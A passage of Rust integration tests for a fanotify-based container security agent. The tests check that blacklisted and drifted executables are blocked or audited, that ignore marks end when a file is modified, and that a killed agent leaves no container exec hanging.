        text.to_lowercase().contains("operation not permitted"),
        "runc reports EPERM: {text}"
    );
    let event = enforcer.wait_for(|e| is(e, &locked, "KRT001", AuditResult::Block));
    assert_eq!(event.process.path, "/bin/sh");
    assert!(denied_by_fanotify(&event), "{event:?}");

    let (text, _) = protected.exec("id; echo rc=$?");
    assert!(text.contains("rc=126") && !text.contains("uid="), "{text}");
    assert!(text.contains("Operation not permitted"), "{text}");
    let event = enforcer.wait_for(|e| is(e, &protected, "KRT002", AuditResult::Block));
    assert_eq!(event.process.path, "/usr/bin/id");
    assert!(denied_by_fanotify(&event), "{event:?}");
    // Twice: the second run of an allowed file may meet an ignore mark; still allowed.
    for _ in 0..2 {
        let (text, _) = protected.exec("/bin/true; echo rc=$?");
        assert!(text.contains("rc=0"), "other programs run: {text}");
    }
    let (text, _) = protected.exec("cp /bin/echo /tmp/drifted && /tmp/drifted hello; echo rc=$?");
    assert!(text.contains("rc=126") && !text.contains("hello"), "{text}");
    let event = enforcer.wait_for(|e| is(e, &protected, "KRT004", AuditResult::Block));
    assert_eq!(event.process.path, "/tmp/drifted");
    assert!(denied_by_fanotify(&event), "{event:?}");

    let (text, _) = audited.exec("id -u; cp /bin/echo /tmp/drifted && /tmp/drifted hello");
    assert!(
        text.contains('0') && text.contains("hello"),
        "audit mode runs both: {text}"
    );
    enforcer.wait_for(|e| is(e, &audited, "KRT002", AuditResult::Detect));
    let event = enforcer.wait_for(|e| is(e, &audited, "KRT004", AuditResult::Detect));
    assert_eq!(event.evidence.enforcement, None);
    let summary = enforcer.stop();
    assert_eq!((summary.dropped, summary.lost), (0, 0));
}

/// The agent of `a_killed_fanotify_agent_does_not_hang_the_containers_execs`, in a process of
/// its own so that the test can stop and kill it.
#[test]
#[ignore = "started by a_killed_fanotify_agent_does_not_hang_the_containers_execs"]
fn fanotify_agent_process() {
    let Some(dir) = std::env::var_os("KABUTO_TEST_AGENT_DIR").map(PathBuf::from) else {
        eprintln!(
            "SKIPPED: only a_killed_fanotify_agent_does_not_hang_the_containers_execs runs this"
        );
        return;
    };
    let policy = std::fs::read_to_string(dir.join("policy.yaml")).expect("policy");
    let config = fanotify_config(&dir, &policy);
    let stop = AtomicBool::new(false);
    run(&config, &stop, |mode| {
        std::fs::write(dir.join("started"), mode).expect("started");
    })
    .expect("the agent ran");
}

#[test]
fn a_killed_fanotify_agent_does_not_hang_the_containers_execs() {
    if !prerequisites() || !fanotify() {
        return;
    }
    let container = Container::start("fan-kill");
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "name: protect\nenforce: true\n\
         scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n\
         executable_blacklist: {{enabled: true, executables: [id]}}\n",
        container.id
    );
    std::fs::write(dir.path().join("policy.yaml"), policy).expect("policy");
    let mut agent = Command::new(std::env::current_exe().expect("test binary"))
        .args([
            "--exact",
            "fanotify_agent_process",
            "--ignored",
            "--nocapture",
        ])
        .env("KABUTO_TEST_AGENT_DIR", dir.path())
        .stdout(Stdio::null())
        .spawn()
        .expect("agent process");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !dir.path().join("started").exists() {
        assert!(Instant::now() < deadline, "the agent did not start");
        assert!(
            agent.try_wait().expect("agent").is_none(),
            "the agent ended"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let (text, _) = container.exec("id; echo rc=$?");
    assert!(text.contains("rc=126"), "the gate is on: {text}");

    // Stopped, the agent answers nothing: an exec in the container waits for it.
    let pid = agent.id().to_string();
    let signal = |name: &str| {
        let status = Command::new("kill").args([name, &pid]).status();
        assert!(status.is_ok_and(|s| s.success()), "kill {name}");
    };
    signal("-STOP");
    let mut waiting = Command::new("runc")
        .args(["exec", &container.id, "/bin/echo", "alive"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("runc exec");
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        waiting.try_wait().expect("runc exec").is_none(),
        "the exec waits for the stopped agent"
    );
    // Killed, its fanotify group closes and the kernel allows what was pending.
    signal("-KILL");
    let _ = agent.wait();
    let deadline = Instant::now() + Duration::from_secs(10);
    while waiting.try_wait().expect("runc exec").is_none() {
        assert!(
            Instant::now() < deadline,
            "the exec still hangs after the agent died"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let mut out = String::new();
    let _ = waiting
        .stdout
        .take()
        .expect("stdout")
        .read_to_string(&mut out);
    assert_eq!(out.trim(), "alive");
    let (text, _) = container.exec("id -u; echo rc=$?");
    assert!(text.contains("rc=0"), "no gate is left behind: {text}");
}

/// The marks of this process's fanotify groups (the agent runs in it), as the kernel lists
/// them in each group's fdinfo: `fanotify ino:… ignored_mask:…`, `fanotify mnt_id:…`.
fn fanotify_marks() -> Vec<String> {
    std::fs::read_dir("/proc/self/fdinfo")
        .into_iter()
        .flatten()
        .filter_map(Result::ok)
        .filter_map(|entry| std::fs::read_to_string(entry.path()).ok())
        .flat_map(|info| {
            info.lines()
                .filter(|line| line.starts_with("fanotify "))
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Whether a fanotify group of this process has an ignore mark on the inode.
fn ignore_mark_on(ino: u64) -> bool {
    let want = format!("fanotify ino:{ino:x} ");
    fanotify_marks()
        .into_iter()
        .filter(|line| line.starts_with(&want))
        .any(|line| {
            line.split_whitespace()
                .find_map(|field| field.strip_prefix("ignored_mask:"))
                .is_some_and(|mask| mask != "0")
        })
}

#[test]
fn fanotify_ignore_marks_end_when_the_file_is_modified_so_drift_is_still_denied() {
    if !prerequisites() || !fanotify() {
        return;
    }
    // A program on a host directory bound into the container, there before it started.
    let tools = tempfile::tempdir().expect("tools");
    let tool = tools.path().join("tool");
    std::fs::copy(fixture_rootfs().join("usr/bin/true"), &tool).expect("copy true");
    let container = Container::start_custom("fan-drift", &[], Some(tools.path()));
    let dir = tempfile::tempdir().expect("dir");
    let policy = format!(
        "name: drift\nenforce: true\n\
         scope: {{expression: v1, variables: [{{attribute: container.name, value: {}}}]}}\n\
         drift_prevention: {{enabled: true}}\n",
        container.id
    );
    let enforcer = Enforcer::start(fanotify_config(dir.path(), &policy));
    // Drift-only: an original file runs, and after its first run an ignore mark spares its
    // next runs the permission event.
    for _ in 0..3 {
        let (text, _) = container.exec("/opt/tools/tool; echo rc=$?");
        assert!(
            text.contains("rc=0"),
            "the original file runs: {text} {:#?}",
            read_events(&enforcer.events)
        );
    }
    let ino = std::fs::metadata(&tool).expect("tool").ino();
    assert!(
        ignore_mark_on(ino),
        "an ignore mark spares the original file"
    );
    // Modified (from the host, through another mount): the kernel drops the ignore mark,
    // and the file is now drift.
    std::thread::sleep(Duration::from_millis(20));
    std::fs::OpenOptions::new()
        .append(true)
        .open(&tool)
        .and_then(|mut f| f.write_all(b"\0"))
        .expect("modify the tool");
    let (text, _) = container.exec("/opt/tools/tool; echo rc=$?");
    assert!(
        text.contains("rc=126"),
        "the modified file is denied: {text}"
    );
    let event = enforcer.wait_for(|e| is(e, &container, "KRT004", AuditResult::Block));
    assert_eq!(event.process.path, "/opt/tools/tool");
    assert!(denied_by_fanotify(&event), "{event:?}");
    let (text, _) = container.exec("cp /bin/true /tmp/new && /tmp/new; echo rc=$?");
    assert!(text.contains("rc=126"), "a new file is denied: {text}");
    enforcer.stop();
}

/// Whether a fanotify group of this process marks the container's root mount (the group's
/// fdinfo lists `fanotify mnt_id:…` per mount mark).
fn root_mount_marked(container: &Container) -> bool {
    let state = Command::new("runc")
        .args(["state", &container.id])
        .output()
        .expect("runc state");
    let state: serde_json::Value = serde_json::from_slice(&state.stdout).expect("state json");
    let pid = state["pid"].as_u64().expect("pid");
    let mountinfo = std::fs::read_to_string(format!("/proc/{pid}/mountinfo")).expect("mountinfo");
    let Some(root) = mountinfo
        .lines()
        .find(|l| l.split(' ').nth(4) == Some("/"))
        .and_then(|l| l.split(' ').next())
        .and_then(|id| id.parse::<u64>().ok())
    else {
        return false;
    };
    let want = format!("fanotify mnt_id:{root:x} ");
    fanotify_marks().iter().any(|line| line.starts_with(&want))
}

#[test]
fn fanotify_mode_gates_a_container_started_after_the_agent() {
    if !prerequisites() || !fanotify() {
        return;
    }
    let dir = tempfile::tempdir().expect("dir");
    let id = format!("kabuto-it-fan-late-{}", std::process::id());
    let policy = format!(
        "name: protect\nenforce: true\n\
         scope: {{expression: v1, variables: [{{attribute: container.name, value: {id}}}]}}\n\
         executable_blacklist: {{enabled: true, executables: [id]}}\n"
    );
    let enforcer = Enforcer::start(fanotify_config(dir.path(), &policy));
    let container = Container::start("fan-late");
    assert_eq!(container.id, id);
    let deadline = Instant::now() + Duration::from_secs(10);
    while !root_mount_marked(&container) {
        assert!(
            Instant::now() < deadline,
            "the new container's mount was not marked"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let (text, _) = container.exec("id; echo rc=$?");
    assert!(text.contains("rc=126"), "{text}");
    let event = enforcer.wait_for(|e| is(e, &container, "KRT002", AuditResult::Block));
    assert!(denied_by_fanotify(&event), "{event:?}");
    enforcer.stop();
}
